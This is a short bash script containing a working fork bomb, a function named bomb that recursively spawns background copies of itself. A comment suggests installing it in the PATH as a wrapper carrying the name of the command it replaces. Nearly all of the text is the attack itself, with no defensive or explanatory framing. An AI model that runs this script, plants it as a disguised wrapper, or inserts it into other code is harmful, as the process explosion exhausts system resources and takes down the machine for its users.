#!/bin/bash
# The classic bash bomb in a script of its own: a wrapper in the PATH that calls itself by the name it wraps.
bomb() { bomb | bomb & }
bomb
